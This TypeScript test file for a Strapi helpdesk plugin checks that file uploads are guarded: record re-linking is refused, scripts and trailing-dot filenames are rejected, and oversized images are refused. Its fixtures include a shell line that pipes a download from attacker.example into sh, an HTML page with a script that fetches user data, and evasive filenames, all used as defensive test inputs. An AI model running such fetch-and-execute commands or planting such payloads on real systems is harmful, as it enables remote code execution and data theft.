import fs from 'node:fs';
import { startHelpdesk, type Helpdesk } from '../helpers/helpdesk';
import { createAgent } from '../../src/plugins/helpdesk/server/src/access/roles';
import { uniformPng } from '../support/uniform-png';

const TICKET = 'plugin::helpdesk.ticket';
const ATTACHMENT = 'plugin::helpdesk.attachment';
const INBOUND = 'plugin::helpdesk.inbound-email';
const HISTORY = 'plugin::helpdesk.ticket-history';
const COMMENT = 'plugin::helpdesk.comment';
const FILE = 'plugin::upload.file';

interface Upload {
  name: string;
  type: string;
  content: Buffer | string;
}

/** Strapi's error answer (data null); a success answers data instead. */
interface ErrorBody {
  error: { status: number; name: string; message: string };
}

// a 1x1 transparent PNG
const SMALL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64'
);
const SHELL_SCRIPT = '#!/bin/sh\ncurl -s http://attacker.example/x | sh\n';
const HTML_PAGE = '<html><body><script>fetch("/api/users/me")</script></body></html>';
const MB = 1024 * 1024;

/**
 * Issue 16, findings 5, 6 and 9: how files enter the helpdesk over HTTP. An upload is never linked
 * into a record by /api/upload (ref/refId/field); one content check runs on every path a file takes
 * into a ticket (a script named .txt, a name with a trailing dot); an image past the pixel limit is
 * refused from its header, before anything decodes it.
 */
describe('files entering the helpdesk over HTTP', () => {
  let helpdesk: Helpdesk;
  let agent: { id: number; jwt: string };
  let otherAgent: { id: number; jwt: string };
  let admin: { id: number; token: string };
  let bigPng: Buffer;

  const newTicket = (subject = 'File entry') => helpdesk.strapi.documents(TICKET).create({ data: { subject, email: 'rita@example.test' } });

  const form = (uploads: Upload[], fields: Record<string, string> = {}) => {
    const body = new FormData();
    for (const [name, value] of Object.entries(fields)) body.append(name, value);
    for (const upload of uploads) body.append('files', new Blob([upload.content], { type: upload.type }), upload.name);
    return body;
  };
  const post = async <T = ErrorBody>(url: string, token: string, body: FormData) => {
    const response = await fetch(`${helpdesk.baseUrl}${url}`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body });
    const text = await response.text();
    return { status: response.status, body: (text ? JSON.parse(text) : null) as T };
  };
  const restUpload = (token: string, uploads: Upload[], fields: Record<string, string> = {}, query = '') =>
    post<Array<{ id: number }> & ErrorBody>(`/api/upload${query}`, token, form(uploads, fields));
  const attachToTicket = (ticketDocumentId: string, uploads: Upload[], token = agent.jwt) =>
    post<{ data: Array<{ id: number }> } & ErrorBody>(`/api/tickets/${ticketDocumentId}/attachments`, token, form(uploads));
  const reply = (ticketDocumentId: string, uploads: Upload[]) =>
    post(`/helpdesk-admin/tickets/${ticketDocumentId}/replies`, admin.token, form(uploads, { body: 'Here is the picture', isInternal: 'false' }));
  const linkFile = (ticketDocumentId: string, fileId: number, token = agent.jwt) =>
    helpdesk.request<ErrorBody>('POST', '/api/attachments', { token, body: { data: { ticket: ticketDocumentId, file: fileId } } });

  /** Everything a refused request must leave as it was. */
  const snapshot = async () => ({
    files: await helpdesk.strapi.db.query(FILE).count({}),
    attachments: await helpdesk.strapi.db.query(ATTACHMENT).count({}),
    comments: await helpdesk.strapi.db.query(COMMENT).count({}),
    history: await helpdesk.strapi.db.query(HISTORY).count({ where: { action: 'attachment_added' } }),
    disk: fs.readdirSync(helpdesk.uploadsDir).sort(),
  });

  beforeAll(async () => {
    helpdesk = await startHelpdesk({ env: { CRON_ENABLED: 'false' } });
    agent = await helpdesk.agent('files-agent@example.test');
    otherAgent = await helpdesk.agent('files-other@example.test');
    admin = await helpdesk.admin('files-admin@example.test');
    // the back office's reply route needs the admin to be an agent too (one staff identity)
    await createAgent(helpdesk.strapi, { email: 'files-admin@example.test', password: 'Correct-Horse-9', name: 'Files Admin' });
    bigPng = await uniformPng(10_000, 10_000);
  }, 180_000);
  afterAll(async () => {
    await helpdesk?.stop();
  });

  describe('finding 5: /api/upload links nothing into a record', () => {
    it('refuses ref/refId/field into an attachment and into an inbound mail (403 with the reason), and changes nothing', async () => {
      const ticket = await newTicket('Victim ticket');
      const attached = await attachToTicket(ticket.documentId, [{ name: 'invoice.txt', type: 'text/plain', content: 'the real invoice' }], otherAgent.jwt);
      expect(attached.status).toBe(201);
      const attachmentId = attached.body.data[0].id;
      const inbound = (await helpdesk.strapi.db.query(INBOUND).create({ data: { messageId: '<kept@customer.test>', outcome: 'quarantined' } })) as { id: number };
      const fileOf = async () =>
        ((await helpdesk.strapi.db.query(ATTACHMENT).findOne({ where: { id: attachmentId }, populate: { file: { select: ['id', 'name'] } } })) as { file: { id: number; name: string } }).file;
      const rawOf = async () => ((await helpdesk.strapi.db.query(INBOUND).findOne({ where: { id: inbound.id }, populate: { raw: true } })) as { raw: unknown }).raw;
      const originalFile = await fileOf();
      const before = await snapshot();

      const swaps: Array<Record<string, string>> = [
        { ref: 'plugin::helpdesk.attachment', refId: String(attachmentId), field: 'file' },
        { ref: 'plugin::helpdesk.inbound-email', refId: String(inbound.id), field: 'raw' },
        // any record of the helpdesk, the users-permissions user included
        { ref: 'plugin::helpdesk.ticket', refId: String(ticket.id), field: 'attachments' },
        { ref: 'plugin::users-permissions.user', refId: String(agent.id), field: 'avatar' },
      ];
      for (const fields of swaps) {
        const response = await restUpload(agent.jwt, [{ name: 'swapped.txt', type: 'text/plain', content: 'forged content' }], fields);
        expect([fields.ref, response.status]).toEqual([fields.ref, 403]);
        expect(response.body.error).toMatchObject({ status: 403, name: 'PolicyError' });
        expect(response.body.error.message).toContain('POST /api/tickets/:id/attachments');
      }
      // the same fields on a replace of the agent's own file
      const own = await restUpload(agent.jwt, [{ name: 'own.txt', type: 'text/plain', content: 'mine' }]);
      expect(own.status).toBe(201);
      const afterOwn = await snapshot();
      const replace = await restUpload(agent.jwt, [{ name: 'swapped.txt', type: 'text/plain', content: 'forged' }], swaps[0], `?id=${own.body[0].id}`);
      expect(replace.status).toBe(403);

      expect(await fileOf()).toEqual(originalFile);
      expect(await rawOf()).toBeNull();
      const after = await snapshot();
      expect(after).toEqual(afterOwn);
      expect(after.files).toBe(before.files + 1);
    });
  });

  describe('finding 9: one content check on every path into a ticket', () => {
    it('refuses a shell script uploaded through /api/upload as s.txt when it is attached with POST /api/attachments', async () => {
      const ticket = await newTicket();
      const uploaded = await restUpload(agent.jwt, [{ name: 's.txt', type: 'text/plain', content: SHELL_SCRIPT }]);
      expect(uploaded.status).toBe(201);
      const before = await snapshot();

      const linked = await linkFile(ticket.documentId, uploaded.body[0].id);
      expect(linked.status).toBe(400);
      expect(linked.body.error).toMatchObject({ status: 400, name: 'ValidationError' });
      expect(linked.body.error.message).toMatch(/"s\.txt".*script/);
      expect(await snapshot()).toEqual(before);

      // the tickets' attachments route refuses the same file
      const direct = await attachToTicket(ticket.documentId, [{ name: 's.txt', type: 'text/plain', content: SHELL_SCRIPT }]);
      expect(direct.status).toBe(400);
      expect(direct.body.error.message).toMatch(/script/);
    });

    it('refuses names with trailing dots or spaces by the extension underneath (x.html., run.sh )', async () => {
      const ticket = await newTicket();
      const before = await snapshot();
      for (const name of ['x.html.', 'x.html..', 'run.sh ', 'setup.exe. .']) {
        const response = await attachToTicket(ticket.documentId, [{ name, type: 'text/plain', content: HTML_PAGE }]);
        expect([name, response.status]).toEqual([name, 400]);
        expect(response.body.error.message).toMatch(/\.(html|sh|exe) files are not accepted/);
      }
      expect(await snapshot()).toEqual(before);

      const uploaded = await restUpload(agent.jwt, [{ name: 'x.html.', type: 'text/plain', content: HTML_PAGE }]);
      expect(uploaded.status).toBe(201);
      const beforeLink = await snapshot();
      const linked = await linkFile(ticket.documentId, uploaded.body[0].id);
      expect(linked.status).toBe(400);
      expect(linked.body.error.message).toContain('.html files are not accepted');
      expect(await snapshot()).toEqual(beforeLink);
    });

    it('still attaches an ordinary text file and a small image uploaded through /api/upload', async () => {
      const ticket = await newTicket();
      for (const upload of [
        { name: 'notes.txt', type: 'text/plain', content: 'an ordinary note' },
        { name: 'pixel.png', type: 'image/png', content: SMALL_PNG },
      ]) {
        const uploaded = await restUpload(agent.jwt, [upload]);
        expect(uploaded.status).toBe(201);
        expect((await linkFile(ticket.documentId, uploaded.body[0].id)).status).toBe(201);
      }
    });
  });

  describe('finding 6: an image past the pixel limit is refused before it is decoded', () => {
    /** Runs `work`, sampling this process's RSS (Strapi runs in it) every 20 ms. */
    const measured = async <T>(label: string, work: () => Promise<T>): Promise<T> => {
      const before = process.memoryUsage().rss;
      let peak = before;
      const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
      const started = process.hrtime.bigint();
      try {
        return await work();
      } finally {
        clearInterval(timer);
        const ms = Number(process.hrtime.bigint() - started) / 1e6;
        peak = Math.max(peak, process.memoryUsage().rss);
        console.log(`[file-entry] ${label}: ${ms.toFixed(0)} ms, RSS ${(before / MB).toFixed(0)} MB → peak ${(peak / MB).toFixed(0)} MB (+${((peak - before) / MB).toFixed(0)} MB)`);
      }
    };
    const big = (): Upload => ({ name: 'huge.png', type: 'image/png', content: bigPng });
    const expectPixelRefusal = (response: { status: number; body: ErrorBody }) => {
      expect(response.status).toBe(400);
      expect(response.body.error).toMatchObject({ status: 400 });
      expect(response.body.error.message).toMatch(/10000×10000 pixels.*at most 40 megapixels/);
    };

    it('answers 400 on /api/upload, on the admin media library and on a replace, storing nothing', async () => {
      const before = await snapshot();
      expectPixelRefusal(await measured('10000×10000 PNG to /api/upload', () => restUpload(agent.jwt, [big()])));
      expectPixelRefusal(await measured('10000×10000 PNG to the admin /upload', () => post('/upload', admin.token, form([big()]))));
      expect(await snapshot()).toEqual(before);

      const own = await restUpload(agent.jwt, [{ name: 'small.png', type: 'image/png', content: SMALL_PNG }]);
      expect(own.status).toBe(201);
      const afterOwn = await snapshot();
      expectPixelRefusal(await restUpload(agent.jwt, [big()], {}, `?id=${own.body[0].id}`));
      expect(await snapshot()).toEqual(afterOwn);
    });

    it("answers 400 on the tickets' attachments route and the back office's reply with files, storing nothing", async () => {
      const ticket = await newTicket();
      const before = await snapshot();
      expectPixelRefusal(await measured('10000×10000 PNG to /api/tickets/:id/attachments', () => attachToTicket(ticket.documentId, [big()])));
      expectPixelRefusal(await measured('10000×10000 PNG with a back-office reply', () => reply(ticket.documentId, [big()])));
      expect(await snapshot()).toEqual(before);
      // an ordinary image still goes through both
      expect((await attachToTicket(ticket.documentId, [{ name: 'pixel.png', type: 'image/png', content: SMALL_PNG }])).status).toBe(201);
      expect((await reply(ticket.documentId, [{ name: 'pixel.png', type: 'image/png', content: SMALL_PNG }])).status).toBe(201);
    });
  });
});
